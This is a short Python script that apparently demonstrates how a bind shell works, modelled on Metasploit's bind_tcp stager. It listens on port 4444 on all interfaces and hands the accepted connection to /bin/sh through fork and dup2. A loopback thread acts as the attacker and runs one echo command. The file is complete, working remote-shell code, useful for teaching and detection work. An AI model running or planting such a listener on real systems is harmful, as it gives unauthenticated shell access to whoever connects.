# A bind shell, as Metasploit's bind_tcp stagers and a Python one-liner
# make it: socket, bind to every address, listen, accept, the connection
# on a shell's stdin, stdout and stderr (fork, dup2, exec /bin/sh). A UDP
# port bound beside it receives a datagram (a listener without listen).
# The "attacker" is a thread of this program that connects from loopback,
# so the accept returns and the shell runs one command.
import os, socket, sys, threading, time

PORT, UDP_PORT = 4444, 5005


def client():
    for _ in range(100):
        try:
            c = socket.create_connection(("127.0.0.1", PORT), timeout=5)
            break
        except OSError:
            time.sleep(0.05)
    else:
        return
    c.sendall(b"echo bound-$((6*7)); exit\n")
    out = b""
    while True:
        b = c.recv(4096)
        if not b:
            break
        out += b
    print("shell said:", out.decode(errors="replace").strip())
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"knock", ("127.0.0.1", UDP_PORT))


u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(("0.0.0.0", UDP_PORT))
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", PORT))
s.listen(1)
t = threading.Thread(target=client)
t.start()
s.settimeout(10)
conn, peer = s.accept()
pid = os.fork()
if pid == 0:
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    os.execv("/bin/sh", ["sh"])
conn.close()
os.waitpid(pid, 0)
t.join()
u.settimeout(5)
try:
    print("udp got:", u.recvfrom(64)[0])
except OSError as e:
    print("udp:", e, file=sys.stderr)
